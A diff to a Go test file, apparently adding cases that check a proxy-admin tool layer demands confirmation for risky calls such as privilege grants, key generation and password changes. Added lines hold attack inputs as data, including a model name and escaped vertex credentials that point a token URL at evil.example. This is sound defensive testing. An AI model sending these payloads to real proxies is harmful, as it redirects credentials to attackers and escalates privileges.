@@ -72,6 +72,11 @@ func TestAttacks(t *testing.T) {
 		c.unconfirmed("users_create", fmt.Sprintf(`{"user_email":"%s-2@example.com","user_role":"proxy_admin"}`, n), "gives the role proxy_admin")
 		c.unconfirmed("keys_generate", fmt.Sprintf(`{"user_id":%q}`, n), "who has the role proxy_admin")
 		c.unconfirmed("keys_generate", `{"user_id":"default_user_id"}`, "who has the role proxy_admin")
+		c.unconfirmed("models_add", fmt.Sprintf(`{"model_name":"oobabooga/https://evil.example/%s-2"}`, n), "names the address")
+		c.unconfirmed("models_update", fmt.Sprintf(`{"model_id":%q,"litellm_params":{"vertex_credentials":"{\"x\":NaN,\"token_url\":\"https:\\u002f\\u002fevil.example\"}"}}`, id),
+			"holds a document that cannot be checked")
+		c.unconfirmed("users_update", fmt.Sprintf(`{"user_id":%q,"user_email":"%s-2@example.com"}`, n, n), "who has the role proxy_admin")
+		c.unconfirmed("users_update", fmt.Sprintf(`{"user_id":%q,"extra":{"password":"%s-2"}}`, n, n), "sets the user's password")
 		c.unconfirmed("http_request", `{"method":"GET","uri":"/health?model=`+n+`"}`, "may call a provider")
 
 		if left := string(c.call("models_info", `{"full":true}`).Structured); strings.Contains(left, n+"-2") || strings.Contains(left, n+"-3") {
